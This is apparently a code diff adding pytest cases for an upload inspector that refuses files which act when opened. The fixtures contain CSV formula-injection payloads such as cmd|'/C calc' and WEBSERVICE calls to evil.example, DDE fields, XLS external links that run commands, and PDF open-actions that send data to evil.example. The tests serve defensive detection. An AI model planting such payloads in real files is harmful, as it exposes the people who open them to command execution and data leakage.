@@ -5,16 +5,33 @@ import random
 import sys
 import zipfile
 import zlib
+from threading import BoundedSemaphore
 
 import pikepdf
 import pytest
 
-from tests.tracks.test_contents import bare_zip, docx, ods, on_open, package, pdf, picture, xlsx
+from tests.tracks.test_contents import (
+    bare_zip,
+    docx,
+    linked,
+    ods,
+    ole,
+    on_open,
+    package,
+    pdf,
+    picture,
+    sheet,
+    told,
+    xls,
+    xlsx,
+)
 from tracks import contents
 from tracks.contents import apart
 
 TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">%s</Types>'
 MACRO = '<Override PartName="/xl/code.bin" ContentType="application/vnd.ms-office.%s"/>'
+SHEETS = "application/vnd.openxmlformats-officedocument.spreadsheetml"
+FIELD = "<w:p xmlns:w='x'><w:instrText>DDEAUTO cmd</w:instrText></w:p>"
 RELATED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
 
 
@@ -39,6 +56,12 @@ def written(words):
     runs = "".join(f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in words)
     body = f'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">{runs}</w:document>'
     return bare_zip([("[Content_Types].xml", "<Types/>"), ("word/document.xml", body)])
+
+
+def moved(name, body, *said, main="xl/workbook.xml"):
+    """A package with a part at a place of its own, which is said to be each of these kinds."""
+    types = "".join(f'<Override PartName="/{name}" ContentType="{one}"/>' for one in said)
+    return bare_zip([(name, body), (main, "<main/>"), ("[Content_Types].xml", TYPES % types)])
 
 
 def torn():
@@ -107,6 +130,21 @@ def then(document):
     document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name("/Named"), N=pikepdf.Name("/NextPage"), Next=following)
 
 
+def then_each(document):
+    turn = pikepdf.Dictionary(S=pikepdf.Name("/Named"), N=pikepdf.Name("/NextPage"))
+    place = pikepdf.Array([document.pages[0].obj, pikepdf.Name("/Fit")])
+    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name("/GoTo"), D=place, Next=pikepdf.Array([turn, uri()]))
+
+
+def then_stream(document):
+    document.Root.OpenAction = document.make_stream(b"", S=pikepdf.Name("/URI"), URI="https://evil.example/")
+
+
+def turning(document):
+    turn = pikepdf.Dictionary(S=pikepdf.Name("/Named"), N=pikepdf.Name("/NextPage"))
+    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name("/Named"), Next=pikepdf.Array([turn, turn]))
+
+
 def stored_elsewhere(document):
     document.Root.X = document.make_stream(b"", F="https://evil.example/x")
 
@@ -134,6 +172,31 @@ ACTING = [
     ("formula", b"a,b\n=cmd|' /C calc'!A0,1\n", "a.csv"),
     ("formula", b'a,"@SUM(1)+cmd|\'/C calc\'!A0"\n', "a.csv"),
     ("formula", b'a;=WEBSERVICE("https://evil.example/"&A1)\n', "a.csv"),
+    ("formula", b"a,b\r=cmd|' /C calc'!A0,1\r", "a.csv"),
+    ("formula", b"a,b\n\n\t  =1|2|cmd|' /C calc'!A0", "a.csv"),
+    ("formula", b"a;" + b" " * 900 + b"=1+" + b" " * 900 + b"IMPORTXML  (A1)\n", "a.csv"),
+    ("broken", ole("Workbook"), "a.xls"),
+    ("broken", xls(sheet(0))[:1600], "a.xls"),
+    ("broken", xls(b"").replace(b"\x09\x08", b"\x09\x04"), "a.xls"),
+    ("locked", xls(told(0x2F, b"\1\0" * 20)), "a.xls"),
+    ("macros", xls(sheet(0), sheet(1)), "a.xls"),
+    ("macros", xls(sheet(1), small=True), "a.xls"),
+    ("macros", xls(sheet(6)), "a.xls"),
+    ("macros", xls(sheet(0), b"\x0a\0\0\0", told(0x809, b"\0\6\x40\0")), "a.xls"),
+    ("macros", xls(told(0xFC, b"\0" * 3 + told(0x809, b"\0\6\x40\0")), sheet(0, 27)), "a.xls"),
+    ("embedded", xls(sheet(0), beside=["MBD0018D4CE"]), "a.xls"),
+    ("remote", xls(linked("cmd\x03/C calc")), "a.xls"),
+    ("remote", xls(linked("\x01\x01@evil.example\x03share\x03x.xls")), "a.xls"),
+    ("remote", xls(linked("\x01\x05\x19https://evil.example/x.xls")), "a.xls"),
+    ("remote", moved("xl/links/one.xml", "<a:ddeLink xmlns:a='x'/>"), "a.xlsx"),
+    ("remote", moved("xl/links/one.dat", "<ddeLink/>", f"{SHEETS}.externalLink+xml"), "a.xlsx"),
+    ("remote", moved("xl/externalLinks/one.xml", "<ddeLink/>", f"{SHEETS}.worksheet+xml", f"{SHEETS}.externalLink+xml"), "a.xlsx"),
+    ("remote", moved("text/document.xml", FIELD, "application/vnd.ms-word.main+xml", main="word/document.xml"), "a.docx"),
+    ("remote", ods([("Object 1/content.xml", "<office:dde-source xmlns:office='x'/>")]), "a.ods"),
+    ("remote", ods([("styles.xml", "<text:dde-connection-decl xmlns:text='x'/>")]), "a.ods"),
+    ("unsafe-path", package([("[CONTENT_TYPES].xml", b"<Types/>")]), "a.xlsx"),
+    ("active-pdf", pdf(then_each), "a.pdf"),
+    ("active-pdf", pdf(then_stream), "a.pdf"),
     ("bomb", package([(f"xl/{n}.bin", b"\0" * 1_040_000) for n in range(20)]), "a.xlsx"),
     ("active-pdf", pdf(on_open({"/S": pikepdf.Name("/SubmitForm"), "/F": "https://evil.example/"})), "a.pdf"),
     ("active-pdf", pdf(on_open({"/S": pikepdf.Name("/URI"), "/URI": "https://evil.example/"})), "a.pdf"),
@@ -169,9 +232,13 @@ def test_what_acts_when_it_is_opened_is_refused_with_its_reason(code, data, name
         (typed('<Default Extension="rels" ContentType="application/xml"/>', "utf-16"), "a.xlsx"),
         (b'a,b\n-5,+49 30 1234\n@home,"=""00123"""\n', "a.csv"),
         (b"words | more words!\n", "a.csv"),
+        (b"-1" + b"," * 250 + b"image (1)\n", "a.csv"),
+        (xls(told(0x1AE, b"\2\0\1\4"), linked("\x01budget\x032025.xls")), "a.xls"),
+        (moved("xl/worksheets/sheet1.xml", "<worksheet><c/></worksheet>", f"{SHEETS}.worksheet+xml"), "a.xlsx"),
+        (pdf(turning), "a.pdf"),
         (b"plain text", "letter"),
     ],
-    ids=range(11),
+    ids=range(15),
 )
 def test_what_only_shows_is_let_in(data, name):
     contents.inspect(data, name)
@@ -188,14 +255,14 @@ def test_what_only_shows_is_let_in(data, name):
         (package([("docProps/é.xml", '<?xml version="1.0" encoding="windows-1252"?><a>é</a>'.encode("cp1252"))]), "a.xlsx"),
         (picture("PNG"), "a.png"),
         (picture("JPEG"), "a.jpg"),
-        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "Workbook".encode("utf-16-le"), "a.xls"),
+        (xls(sheet(0)), "a.xls"),
         (b"a,b\n" * 30_000, "a.csv"),
         (b'{"type": "FeatureCollection", "features": [' + b"{}," * 30_000 + b"{}]}", "a.geojson"),
     ],
     ids=["pdf", "xlsx", "docx", "ods", "utf-16", "windows-1252", "png", "jpeg", "xls", "csv", "geojson"],
 )  # fmt: skip
 def test_apart_finds_the_same(data, name):
-    assert not contents.is_light(data)
+    assert not contents.is_light(data, name)
     assert apart.inspect(data, name) == contents.inspect(data, name)
 
 
@@ -213,6 +280,26 @@ def test_apart_refuses_with_the_same_reason(code, data, name):
     with pytest.raises(contents.Unfit) as unfit:
         apart.inspect(data, name)
     assert unfit.value.code == code
+
+
+@pytest.mark.parametrize("sign", ["\n", "\t", '"=', '"=|', "-5,"], ids=["lines", "tabs", "formulas", "bars", "numbers"])
+def test_a_table_is_judged_elsewhere_however_short(sign):
+    data = ("a" + sign * contents.LIGHT)[: contents.LIGHT].encode()
+    for name in ("a.csv", "A.CSV", "a.csv ", "a.\u200bcsv"):
+        assert not contents.is_light(data, name)
+    assert contents.is_light(data, "a.txt")
+    assert apart.inspect(data, "a.csv").media_type == contents.CSV
+
+
+def test_whose_turn_does_not_come_is_told_to_try_again(monkeypatch):
+    monkeypatch.setattr(apart, "AT_ONCE", BoundedSemaphore(1))
+    monkeypatch.setattr(apart, "LONGEST_WAIT", 0.01)
+    with apart.AT_ONCE, pytest.raises(contents.Unfit, match="not-checked"):
+        apart.inspect(pdf(), "a.pdf")
+    assert apart.inspect(pdf(), "a.pdf").media_type == contents.PDF
+    with pytest.raises(contents.Unfit, match="broken"):
+        apart.inspect(b"%PDF-1.7 and nothing more", "a.pdf")
+    assert apart.AT_ONCE.acquire(blocking=False), "a refused file gives its place back"
 
 
 @pytest.mark.parametrize(
